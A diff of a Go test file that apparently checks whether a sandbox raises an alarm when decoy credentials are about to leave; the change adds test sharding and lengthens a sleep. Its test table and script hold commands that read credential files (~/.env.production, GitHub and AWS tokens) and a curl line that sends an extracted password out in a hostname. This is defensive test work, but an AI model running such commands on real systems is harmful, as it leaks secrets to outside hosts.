@@ -70,13 +70,17 @@ var thefts = []struct{ name, command string }{
 	{"name, a password", `curl -sS http://$(sed -n 's/.*app:\(.*\)@.*/\1/p' $HOME/.env.production).allowed.test/`},
 }
 
+// Whatever the way, it is the same alarm. The users share the ways.
 func TestDecoyLeaves(t *testing.T) {
 	need(t, "bash", "curl", "getent")
-	for _, row := range thefts {
+	for i, row := range thefts {
+		if !stage.Mine(i) {
+			continue
+		}
 		t.Run(row.name, func(t *testing.T) {
 			s, v := sinks(t)
 			script := `T=$DEPLOY_BREAKGLASS_TOKEN; echo $T > decoy; cat ~/.env.production ~/.config/github-token ~/.aws/credentials.bak > files 2>/dev/null
-				` + row.command + ` > out 2>&1; sleep 8; echo > after`
+				` + row.command + ` > out 2>&1; sleep 60; echo > after`
 			r := s.ringfence(append(slices.Clone(sinkFlags), "bash", "-c", script)...)
 			if r.Status != 125 || !strings.Contains(r.Stderr, "decoy credential") || !strings.Contains(r.Stderr, "was about to leave") {
 				t.Errorf("no alarm after %v: %s\n%s", r.took, r.show(), s.have("out"))
